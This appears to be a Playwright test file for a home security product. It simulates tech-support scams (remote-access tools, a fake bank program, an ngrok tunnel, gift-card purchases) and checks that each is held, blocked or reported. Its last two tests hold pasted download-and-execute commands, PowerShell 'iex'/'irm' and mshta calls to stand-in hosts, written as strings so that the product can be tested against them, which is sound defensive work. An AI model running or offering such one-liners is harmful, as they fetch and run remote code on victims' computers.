import { expect } from '@playwright/test';
import { minute } from '@porchlight/contract/time.ts';
import { call } from '@porchlight/dev/call.ts';
import type { Household } from './household.ts';
import {
  answer,
  expectBlocked,
  expectMail,
  expectOpen,
  expectOpenIncident,
  expectPolicy,
  incidentsOf,
  type Program,
  startAndExpectEnd,
} from './steps.ts';
import type { Way } from './way.ts';

/** Parts of the scams that are on no list (P12.2 to P12.6). */

const anydesk = { name: 'AnyDesk.exe', signer: 'AnyDesk Software GmbH' };
const ultraviewer = { name: 'UltraViewer_Desktop.exe', product: 'UltraViewer', signer: 'DucFabulous Co., Ltd' };

/** Nothing in it is known: its maker has renamed the libraries of the tool that it is built from too. */
export const bankSupport = { name: 'BankSupport.exe', original_name: 'BankSupport.exe', product: 'Bank Support', company: 'Bank Support' };
const powershell = {
  ...{ name: 'powershell.exe', path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' },
  ...{ original_name: 'PowerShell.EXE.MUI', company: 'Microsoft Corporation', signer: 'Microsoft Windows' },
};
const mshta = {
  name: 'mshta.exe',
  path: 'C:\\Windows\\System32\\mshta.exe',
  company: 'Microsoft Corporation',
  signer: 'Microsoft Windows',
};

const bobs = ({ bob }: Household) => bob?.email ?? '';

/** The program is suspended, and Bob has the question within two seconds. */
async function startAndExpectWaiting(
  household: Household,
  program: Program,
  wants: RegExp,
  how: { line?: string; from?: string },
): Promise<number> {
  const { windows } = household.computer;
  const started = Date.now();
  const pid = await windows.start(program, how);
  await expect.poll(() => windows.isSuspended(pid), { message: `${program.name} to wait` }).toBe(true);
  await expectMail(household, bobs(household), wants, { since: started });
  return pid;
}

/** Nothing has changed after three hours, a no ends it, and it is a no the next day. */
async function expectEndAfterNo(household: Household, pid: number, wants: RegExp): Promise<void> {
  const { windows } = household.computer;
  await household.pass(180 * minute);
  expect([await windows.isSuspended(pid), await windows.isRunning(pid)]).toEqual([true, true]);
  if (household.bob) await answer(household.bob, wants, 'no');
  await expect.poll(() => windows.isRunning(pid), { message: 'its end', timeout: 20_000 }).toBe(false);
}

export async function stopAnyDesk(household: Household, program: Program = anydesk): Promise<void> {
  await startAndExpectEnd(household, program);
  await expectOpenIncident(household);
  await expectPolicy(household, /\\"lock\\":true|"lock":true/);
}

export const flowUnlisted: Way[] = [
  {
    title: 'The caller whose AnyDesk was stopped has the victim start a program of the gang’s own under the name of a bank',
    flow: 5,
    outcome: 'held',
    async run(household) {
      await stopAnyDesk(household);
      const pid = await startAndExpectWaiting(household, bankSupport, /^Please answer: someone at Den PC wants to run Bank Support$/, {
        from: 'bank-support.example.net',
      });
      await expectEndAfterNo(household, pid, /Bank Support/);
    },
  },
  {
    title: 'The victim, who has chosen that nothing new runs without Bob, starts a program of the gang’s own under the name of a bank',
    flow: 5,
    outcome: 'held',
    async run(household) {
      const { ann, town } = household;
      await call(town.world.url, 'PATCH /web/unlisted-protection', { token: ann.token, body: { new_programs: 'always' } });
      await expectPolicy(household, /always/);
      const pid = await startAndExpectWaiting(household, bankSupport, /wants to run Bank Support$/, { from: 'bank-support.example.net' });
      expect(await incidentsOf(household)).toEqual([]);
      await expectEndAfterNo(household, pid, /Bank Support/);
    },
  },
  {
    title: 'The caller has the victim switch Remote Desktop and an SSH server on, which are switched off again',
    flow: 7,
    outcome: 'stopped',
    async run(household) {
      const { windows } = household.computer;
      for (const [door, name] of [
        ['remote_desktop', 'Remote Desktop'],
        ['remote_shell', 'Remote login \\(SSH\\)'],
      ] as const) {
        const opened = Date.now();
        await windows.openDoor({ [door]: true });
        await expect.poll(async () => (await windows.doors())[door], { message: `${door} to be closed` }).toBe(false);
        await expectMail(household, bobs(household), new RegExp(`^Ann may need you: ${name} was blocked on Den PC$`), { since: opened });
      }
    },
  },
  {
    title: 'The caller has the victim open a tunnel by ngrok, and make the caller an administrator',
    flow: 7,
    outcome: 'reported',
    async run(household) {
      const { windows } = household.computer;
      const started = Date.now();
      const pid = await windows.start({ name: 'ngrok.exe', product: 'ngrok', signer: 'ngrok, Inc.' });
      await expectMail(household, bobs(household), /^Call Ann now: A tunnel \(ngrok\) was not blocked on Den PC$/, {
        since: started,
      });
      expect(await windows.isRunning(pid)).toBe(true);
      const added = Date.now();
      const { administrators } = await windows.doors();
      await windows.openDoor({ administrators: [...(administrators ?? []), 'support'] });
      await expectMail(household, bobs(household), /^Call Ann now: A new administrator was not blocked on Den PC$/, { since: added });
    },
  },
  {
    title: 'The caller whose AnyDesk was stopped has the victim share the screen in the browser by Meet, which its policies refuse',
    flow: 9,
    outcome: 'stopped',
    async run(household) {
      const { windows } = household.computer;
      expect(await windows.browserPolicies()).not.toHaveProperty('ScreenCaptureAllowed');
      await stopAnyDesk(household);
      await expect.poll(() => windows.browserPolicies()).toMatchObject({ ScreenCaptureAllowed: false });
    },
  },
  {
    title: 'The caller who promised a refund goes on without the stopped program and has the victim open her bank and buy gift cards',
    flow: 12,
    outcome: 'held',
    short: true,
    async run(household) {
      await expectOpen(household, ['www.chase.com', 'www.giftcards.com', 'www.coinbase.com']);
      await stopAnyDesk(household, ultraviewer);
      const tried = Date.now();
      await expectBlocked(household, ['www.chase.com', 'www.giftcards.com', 'www.coinbase.com', 'bitcoindepot.com']);
      await expectOpen(household, ['www.apple.com', 'www.amazon.com']);
      await expectMail(household, bobs(household), /^Please answer: someone at Den PC wants to open bank and money pages$/, {
        since: tried,
      });
      await household.pass(180 * minute);
      await expectBlocked(household, ['www.chase.com']);
      if (household.bob) await answer(household.bob, /bank and money pages/, 'yes');
      await expect.poll(() => household.resolve('www.chase.com'), { timeout: 20_000 }).toBe('192.0.2.1');
    },
  },
  {
    title: 'The victim pastes a command into the Run box, and PowerShell or mshta waits before it fetches and runs anything',
    flow: 19,
    outcome: 'held',
    short: true,
    async run(household) {
      const commands = [
        [
          powershell,
          'powershell -w hidden -c "iex (iwr https://verify-human.example.net/a.txt -useb).Content" # I am not a robot',
          /PowerShell/,
        ],
        [mshta, 'mshta https://verify-human.example.net/captcha.hta', /wants to run a pasted/],
      ] as const;
      for (const [program, line, wants] of commands) {
        const pid = await startAndExpectWaiting(household, program, wants, { line });
        await expectOpenIncident(household);
        if (household.bob) await answer(household.bob, /pasted/, 'no');
        await expect.poll(() => household.computer.windows.isRunning(pid), { message: 'its end', timeout: 20_000 }).toBe(false);
      }
    },
  },
  {
    title: 'The victim pastes the command of a false AI tool into the Run box, and it waits before it fetches anything',
    flow: 31,
    outcome: 'held',
    async run(household) {
      const line = 'powershell -c "irm https://get-ai-desktop.example.net/install.ps1 | iex"';
      await startAndExpectWaiting(household, powershell, /PowerShell/, { line });
      await expectOpenIncident(household);
    },
  },
];
